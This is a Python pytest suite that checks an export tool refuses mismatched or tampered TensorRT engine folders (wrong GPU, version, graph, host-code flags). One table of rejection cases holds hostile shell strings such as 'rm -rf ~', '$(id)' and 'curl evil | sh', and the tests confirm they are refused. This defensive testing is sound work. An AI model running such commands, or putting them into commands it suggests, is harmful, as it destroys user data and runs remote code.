"""An engine of another GPU, version or graph is refused by name, before anything is deserialised."""

from __future__ import annotations

import json
import shutil
from dataclasses import replace
from pathlib import Path

import pytest

from mghft_export.bundle import load_bundle
from mghft_export.bundle.build_info import BUILD_INFO, BuildInfo, GpuEntry, read_build_info, write_build_info
from mghft_export.engines.gpu import Gpu, NoGpu
from mghft_export.engines.loading import (
    ALLOW_HOST_CODE,
    NOT_RTX,
    check_gpu,
    check_host_code,
    check_version,
    engine_folders,
    load_engine_folder,
)
from mghft_export.engines.options import supported_targets
from mghft_export.errors import EngineError

AMPERE = Gpu(name="NVIDIA RTX A4000", sm=86, free=2**30, driver="13.0", multiprocessors=48, memory=16 * 2**30)


@pytest.fixture
def folder(built_bundle, tmp_path):
    bundle = load_bundle(Path(shutil.copytree(built_bundle.root, tmp_path / "bundle")))
    return engine_folders(bundle)[0]


def change(folder, edit):
    values = json.loads((folder / "build.json").read_text())
    edit(values)
    (folder / "build.json").write_text(json.dumps(values))


def test_what_fits_is_loaded(folder, rtx):
    built = load_engine_folder(folder, gpu=AMPERE)
    assert built.engine("fusion") == folder / "fusion.engine"
    assert built.backend == rtx
    assert built.bundle.root == folder.parent.parent
    with pytest.raises(EngineError, match=r"no vision engine; build it with: .* --branch vision"):
        built.engine("vision")


def test_another_gpu(folder, ada):
    with pytest.raises(EngineError) as caught:
        load_engine_folder(folder, gpu=ada)
    text = str(caught.value)
    assert "built for sm86, and this is NVIDIA GeForce RTX 4090 (sm89)" in text
    assert text.endswith("--backend rtx --batch 1,8,32 --target sm89")


def test_another_version(folder):
    change(folder, lambda values: values.update(version="1.4.0.76"))
    with pytest.raises(
        EngineError, match=r"TensorRT-RTX 1\.4\.0\.76, and this is TensorRT-RTX .*build it again with: mghft"
    ):
        load_engine_folder(folder, gpu=AMPERE)


def test_another_graph(folder):
    change(folder, lambda values: values["engines"]["fusion"]["onnx"].update(sha256="0" * 64))
    with pytest.raises(
        EngineError, match=r"another fp16/fusion.onnx \(00000000\) than the bundle's .*build it again"
    ):
        load_engine_folder(folder, gpu=AMPERE)


def test_a_graph_that_is_gone(folder):
    change(folder, lambda values: values.update(precision="fp8"))
    with pytest.raises(EngineError, match="no longer has"):
        load_engine_folder(folder, gpu=AMPERE)


def test_a_changed_engine(folder):
    path = folder / "fusion.engine"
    content = bytearray(path.read_bytes())
    content[100] ^= 1
    path.write_bytes(content)
    with pytest.raises(EngineError, match="was changed after it was built"):
        load_engine_folder(folder, gpu=AMPERE)
    path.unlink()
    with pytest.raises(EngineError, match="is missing"):
        load_engine_folder(folder, gpu=AMPERE)


def test_a_file_outside_the_folder(folder):
    change(folder, lambda values: values["engines"]["fusion"]["file"].update(path="../../fp16/fusion.onnx"))
    with pytest.raises(EngineError, match="outside"):
        load_engine_folder(folder, gpu=AMPERE)


@pytest.mark.parametrize(
    ("edit", "words"),
    [
        (lambda values: values.update(schema_version=2), "schema version 2"),
        (lambda values: values.pop("backend"), "damaged at 'backend'"),
        (lambda values: values.update(backend="openvino"), "damaged at 'backend'"),
    ],
)
def test_a_damaged_build_json(folder, edit, words):
    change(folder, edit)
    with pytest.raises(EngineError, match=words):
        load_engine_folder(folder, gpu=AMPERE)


def test_no_engines_at_all(tmp_path):
    with pytest.raises(EngineError, match="mghft-export trt"):
        load_engine_folder(tmp_path)
    (tmp_path / "build.json").write_text("{")
    with pytest.raises(EngineError, match="is not JSON"):
        read_build_info(tmp_path)


def test_no_gpu(folder):
    with pytest.raises(EngineError, match=r"none can be used here \(no driver\)"):
        load_engine_folder(folder, gpu=NoGpu("no driver"))


def tensorrt_info(**flags):
    gpu = GpuEntry(name="NVIDIA A10", sm=86, driver="12.8")
    return BuildInfo.model_validate(
        {
            "producer": "test",
            "backend": "tensorrt",
            "version": "10.9.0.34",
            "precision": "fp16",
            "gpu": gpu,
            "flags": flags,
            "command": "mghft-export trt b --fp16 --backend tensorrt",
            "engines": {},
        }
    )


@pytest.mark.parametrize(
    ("flags", "gpu", "fits"),
    [
        ({}, replace(AMPERE, name="NVIDIA A10"), True),
        ({}, AMPERE, False),
        ({"hardware_compatible": "same-sm"}, AMPERE, True),
        ({"hardware_compatible": "same-sm"}, replace(AMPERE, sm=89), False),
        ({"hardware_compatible": "ampere+"}, replace(AMPERE, sm=89), True),
        ({"hardware_compatible": "ampere+"}, replace(AMPERE, sm=75), False),
    ],
)
def test_tensorrt_engines_are_for_one_gpu_unless_made_compatible(tmp_path, flags, gpu, fits):
    info = tensorrt_info(**flags)
    if fits:
        check_gpu(tmp_path, info, gpu)
    else:
        with pytest.raises(EngineError, match=r"built for NVIDIA A10 \(sm86\), and this is NVIDIA RTX A4000"):
            check_gpu(tmp_path, info, gpu)


ORIN = Gpu(name="Orin", sm=87, free=2**30, driver="12.6", multiprocessors=16, memory=61 * 2**30)


@pytest.mark.parametrize(
    ("gpu", "words"),
    [
        (ORIN, None),
        (replace(ORIN, memory=59 * 2**30), None),
        (
            replace(ORIN, multiprocessors=8),
            "with 16 multiprocessors and 61.0 GiB, and this is .* with 8 multi",
        ),
        (replace(ORIN, memory=30 * 2**30), "16 multiprocessors and 61.0 GiB, and .* and 30.0 GiB; build it"),
    ],
)
def test_every_jetson_orin_is_called_orin(tmp_path, gpu, words):
    built = GpuEntry(name="Orin", sm=87, driver="12.6", multiprocessors=16, memory=61 * 2**30)
    info = tensorrt_info().model_copy(update={"gpu": built})
    if words is None:
        check_gpu(tmp_path, info, gpu)
    else:
        with pytest.raises(EngineError, match=words):
            check_gpu(tmp_path, info, gpu)
    earlier = built.model_copy(update={"multiprocessors": None, "memory": None})
    check_gpu(tmp_path, info.model_copy(update={"gpu": earlier}), gpu)


@pytest.mark.parametrize(
    ("flags", "version", "fits"),
    [
        ({}, "10.9.0.34", True),
        ({}, "10.9.1.0", False),
        ({"version_compatible": True}, "10.13.0.35", True),
        ({"version_compatible": True}, "10.3.0.26", False),
        ({"version_compatible": True}, "11.0.0.1", False),
    ],
)
def test_versions_differ_only_upwards_and_only_if_made_compatible(tmp_path, rtx, flags, version, fits):
    here = replace(rtx, name="tensorrt", version=version)
    if fits:
        check_version(tmp_path, tensorrt_info(**flags), here)
    else:
        with pytest.raises(EngineError, match=rf"TensorRT 10\.9\.0\.34, and this is TensorRT {version}"):
            check_version(tmp_path, tensorrt_info(**flags), here)


def test_a_file_alone_does_not_allow_code_on_the_host(tmp_path, folder, ada, monkeypatch):
    """`build.json` may be a stranger's; the environment is the user's."""
    monkeypatch.delenv(ALLOW_HOST_CODE, raising=False)
    check_host_code(tmp_path, tensorrt_info())
    info = read_build_info(folder)
    flags = info.flags.model_copy(update={"version_compatible": True})
    write_build_info(folder, info.model_copy(update={"flags": flags}))
    for value in (None, "", "0"):
        if value is not None:
            monkeypatch.setenv(ALLOW_HOST_CODE, value)
        with pytest.raises(EngineError, match=f"bring code that runs on this machine.*{ALLOW_HOST_CODE}=1"):
            load_engine_folder(folder, gpu=ada)
    monkeypatch.setenv(ALLOW_HOST_CODE, "1")
    load_engine_folder(folder, gpu=replace(ada, sm=86))


COMMANDS = {
    "mghft-export trt b --fp16": True,
    "mghft-export trt '/a folder/it'\"'\"'s' --batch 1,2,4 --target sm86,sm89": True,
    "mghft-export trt": True,
    "mghft-export trt b; rm -rf ~": False,
    "mghft-export trt $(id)": False,
    "mghft-export trt b\ncurl evil": False,
    "mghft-export trt 'b": False,
    "mghft-export trt '\x1b[2J'": False,
    "mghft-export trtx": False,
    "curl evil | sh": False,
    "": False,
}
"""Whether a stranger's words may be shown as what builds engines again; cpp/tests/bundle_test.cpp has them, too."""


def test_advice_to_paste_is_our_own_command(folder, ada):
    info = read_build_info(folder)
    for command, good in COMMANDS.items():
        values = json.loads(info.model_dump_json()) | {"command": command}
        (folder / BUILD_INFO).write_text(json.dumps(values))
        if good:
            assert read_build_info(folder).command == command
        else:
            with pytest.raises(EngineError, match="damaged at 'command'"):
                load_engine_folder(folder, gpu=ada)
    values["command"] = "mghft-export trt 'x --target y' --target sm87 --fp16"
    (folder / BUILD_INFO).write_text(json.dumps(values))
    with pytest.raises(EngineError, match=r"with: mghft-export trt 'x --target y' --fp16 --target sm75$"):
        load_engine_folder(folder, gpu=replace(ada, sm=75))


def test_an_engine_for_no_target_of_its_own_runs_from_ampere_on(folder, ada):
    info = read_build_info(folder).model_copy(update={"targets": ()})
    write_build_info(folder, info)
    load_engine_folder(folder, gpu=ada)
    with pytest.raises(EngineError, match=r"GPUs from sm80 on, and this is .*--target sm75"):
        load_engine_folder(folder, gpu=replace(ada, sm=75))


@pytest.mark.parametrize("targets", [(), (90,)])
@pytest.mark.parametrize(("sm", "family"), [(87, "Jetson Orin"), (90, "Hopper"), (110, "Jetson Thor")])
def test_rtx_does_not_run_everywhere(folder, ada, targets, sm, family):
    info = read_build_info(folder).model_copy(update={"targets": targets})
    write_build_info(folder, info)
    words = rf"does not run on {family} GPUs.*build it here with: mghft-export trt \S+ --fp16 .*--backend tensorrt$"
    with pytest.raises(EngineError, match=words):
        load_engine_folder(folder, gpu=replace(ada, sm=sm))


def test_what_rtx_builds_for_it_also_runs_on(rtx):
    assert not set(NOT_RTX) & set(supported_targets(rtx))
